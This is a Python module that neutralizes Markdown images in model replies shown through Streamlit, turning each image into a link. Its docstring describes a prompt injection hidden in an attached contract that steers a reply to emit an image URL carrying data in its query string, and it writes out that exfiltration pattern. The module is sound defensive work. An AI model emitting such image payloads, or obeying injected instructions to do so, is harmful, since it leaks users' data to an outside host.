"""Make model output safe to render as Markdown: images become plain links.

Streamlit escapes raw HTML in st.markdown, but Markdown images still load: a reply steered by a
prompt injection (say, inside an attached contract) could make the browser fetch
`![x](https://host/?q=<data>)`. Links only open when clicked, so images are turned into links.
"""

from __future__ import annotations

import re

# ![alt](url "title")  and  ![alt][ref]
_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\n]*)\)")
_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\[([^\]\n]*)\]")


def safe_llm_markdown(text: str) -> str:
    """The text with every Markdown image turned into a link labelled 画像."""
    while True:  # "!![a](b)" becomes an image again after one pass: repeat until nothing changes
        out = _INLINE_IMAGE.sub(lambda m: f"[画像: {m.group(1) or 'リンク'}]({m.group(2)})", text)
        out = _REF_IMAGE.sub(lambda m: f"[画像: {m.group(1) or 'リンク'}][{m.group(2)}]", out)
        if out == text:
            return out
        text = out
